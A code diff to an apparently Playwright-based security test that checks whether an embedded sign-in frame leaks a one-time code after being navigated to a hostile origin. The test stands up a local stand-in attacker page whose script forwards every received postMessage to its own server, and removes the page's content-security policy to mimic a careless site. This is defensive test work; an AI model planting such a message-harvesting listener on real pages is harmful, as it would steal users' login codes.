@@ -9,17 +9,18 @@ import { call, FRAME_ORIGIN, fault, insideFrame, logIn } from './embedded.js';
 const visit = useBrowser();
 afterEach(() => fault(null));
 
-/** A page of another origin, which keeps what it hears and can say anything. */
+/** A page of another origin, which tells its server what it hears and can say anything. */
 let evil: Server;
+const visited: string[] = [];
 const evilOrigin = () => `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
 beforeAll(async () => {
   const page = `<!doctype html><script>
-    window.heard = [];
-    addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
-    const target = opener ?? parent;
-    const say = (message) => target.postMessage(message, '*');
+    addEventListener('message', ({ data }) => fetch('/heard?' + encodeURIComponent(JSON.stringify(data)), { keepalive: true }));
   </script>`;
-  evil = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(page));
+  evil = createServer((request, response) => {
+    visited.push(request.url ?? '');
+    response.writeHead(200, { 'content-type': 'text/html' }).end(page);
+  });
   await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
 });
 afterAll(() => void evil.close());
@@ -126,19 +127,21 @@ test('a second window at the frame’s own origin, and one elsewhere, are not th
 
 test('a frame that goes elsewhere before the code is sent gets none of it', async () => {
   const { page, context, close } = await visit();
+  // The demo's policy names the frame's origin and would stop it: here the page is a careless one.
+  await context.route(inject('dapp').url, async (route) => {
+    const response = await route.fetch();
+    const { 'content-security-policy': _, ...headers } = response.headers();
+    await route.fulfill({ response, headers });
+  });
+  await page.reload();
+  await page.evaluate(() => window.latchkeySandbox?.ready);
   await call(page, 'ready');
-  // The page's own policy would stop it at once: here the policy is that of a careless page.
-  const seen: string[] = [];
-  await context.route(`${FRAME_ORIGIN}/elsewhere`, (route) => route.fulfill({ body: '' }));
-  await fault({ kind: 'navigate', to: evilOrigin(), of: 'CONNECT_EMAIL' });
-  const first = await call(page, 'connectEmail', EMAIL);
-  expect(first.code).toMatch(/^FRAME_(FAILED|TIMEOUT)$/);
-  const after = await call(page, 'connectOtp', { otp: '123456' });
-  expect(after).toMatchObject({ code: 'FRAME_SAID' });
-  for (const frame of page.frames().filter((one) => one.url().startsWith(evilOrigin()))) {
-    seen.push(...((await frame.evaluate('window.heard')) as string[]));
-  }
-  expect(seen).toEqual([]);
+  await fault({ kind: 'navigate', to: `${evilOrigin()}/sdk`, of: 'CONNECT_EMAIL' });
+  expect(await call(page, 'connectEmail', EMAIL)).toEqual(FAILED);
+  expect(visited).toContain('/sdk');
+  // A new frame is asked, which knows of no code.
+  expect(await call(page, 'connectOtp', { otp: '123456' })).toMatchObject({ code: 'FRAME_SAID' });
+  expect(visited.filter((path) => path.startsWith('/heard'))).toEqual([]);
   expect(await page.locator('iframe').count()).toBe(1);
   await close();
 }, 120_000);
